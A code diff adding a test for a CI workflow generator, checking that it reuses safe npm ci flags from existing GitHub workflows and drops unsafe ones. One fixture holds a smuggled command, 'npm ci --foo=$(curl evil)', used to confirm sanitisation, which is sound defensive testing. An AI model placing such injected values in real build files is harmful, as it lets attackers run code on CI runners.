@@ -366,6 +366,25 @@ describe('ci generator', () => {
     expect(stepNames(workflowOf(tree).jobs['nx-affected'])).not.toContain('Set up .NET');
   });
 
+  it("installs with the flags the repository's own jobs pass to npm ci, and only safe ones", async () => {
+    tree.write(
+      '.github/workflows/frontend.yml',
+      'jobs:\n  build:\n    runs-on: self-hosted\n    steps:\n      - run: |\n          npm ci --legacy-peer-deps --no-audit\n          npx nx build web\n',
+    );
+    await generate(tree);
+    const installs = (job: Job) => job.steps.filter(({ name }) => name === 'Install dependencies');
+    for (const job of Object.values(workflowOf(tree).jobs))
+      expect(installs(job).map(({ run }) => run)).toEqual(['npm ci --legacy-peer-deps --no-audit']);
+
+    const other = createTreeWithEmptyWorkspace();
+    other.write(
+      '.github/workflows/x.yml',
+      'jobs:\n  a:\n    steps:\n      - run: npm ci --foo=$(curl evil)\n',
+    );
+    await generate(other);
+    expect(installs(workflowOf(other).jobs['nx-affected']).map(({ run }) => run)).toEqual(['npm ci']);
+  });
+
   it('keeps the build going when Sentry is down: release and symbol steps report and continue', async () => {
     await generate(tree);
     const steps = workflowOf(tree).jobs['nx-deploy'].steps;
